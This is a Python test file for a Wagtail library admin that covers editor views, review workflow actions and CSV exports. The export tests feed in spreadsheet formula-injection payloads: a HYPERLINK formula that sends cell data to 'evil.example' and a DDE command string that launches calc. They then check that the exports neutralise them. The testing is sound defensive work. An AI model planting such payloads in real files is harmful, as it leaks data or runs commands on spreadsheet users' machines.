"""The library in the Wagtail admin: editors follow contributions and reader feedback."""

import csv
import io

from django.urls import reverse

import pytest

from library.services import GuideDraft, contribution_create, feedback_submit
from tests.library.factories import GuideFactory

pytestmark = pytest.mark.django_db


def test_editors_see_contributions_and_where_each_stands(client, citizen, editor, topic):
    contribution_create(
        user=citizen,
        topic=topic,
        draft=GuideDraft(title="Як посадити дерево", summary="Коротко", steps=(("Крок", "Так"),)),
    )
    client.force_login(editor)
    html = client.get(reverse("library_admin:contributions")).content.decode()
    assert "Як посадити дерево" in html
    assert "На розгляді" in html


def test_the_reports_are_in_the_editors_menu(client, editor):
    client.force_login(editor)
    html = client.get(reverse("wagtailadmin_reports:aging_pages")).content.decode()
    assert reverse("library_admin:feedback") in html
    assert reverse("library_admin:contributions") in html


def test_the_reject_action_is_offered_to_editors_only(citizen, editor, topic):
    contribution = contribution_create(
        user=citizen,
        topic=topic,
        draft=GuideDraft(title="Як посадити дерево", summary="Коротко", steps=(("Крок", "Так"),)),
    )
    task = contribution.page.current_workflow_task
    assert [name for name, *_ in task.get_actions(contribution.page, editor)] == [
        "reject",
        "decline",
        "approve",
        "approve",
    ]
    assert task.get_actions(contribution.page, citizen) == []


def test_a_new_library_index_enters_the_review_workflow(library):
    assert library.get_workflow().name == "Library contributions"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def exported_rows(client, url: str) -> list[list[str]]:
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_the_contributions_export_keeps_a_contributors_formula_as_text(
    client, citizen, editor, topic
):
    citizen.profile.display_name = "@SUM(1+1)"
    citizen.profile.save()
    contribution_create(
        user=citizen,
        topic=topic,
        draft=GuideDraft(title=HOSTILE, summary="Коротко", steps=(("Крок", "Так"),)),
    )
    client.force_login(editor)

    _heading, row = exported_rows(client, reverse("library_admin:contributions"))

    assert row[0] == f"'{HOSTILE}"
    assert row[1] == "'@SUM(1+1)"


def test_the_feedback_exports_keep_a_readers_comment_and_a_title_as_text(
    client, citizen, editor, topic
):
    page = GuideFactory(parent=topic, title="+CMD|' /C calc'!A0")
    feedback_submit(page=page, useful=True, comment="-1+2, і ще", user=citizen)
    client.force_login(editor)

    _heading, stats = exported_rows(client, reverse("library_admin:feedback"))
    _heading, comment = exported_rows(client, reverse("library_admin:comments"))

    assert stats[0] == "'+CMD|' /C calc'!A0"
    assert stats[1] == "1"  # numbers stay numbers
    assert comment[0] == "'+CMD|' /C calc'!A0"
    assert comment[2] == "'-1+2, і ще"
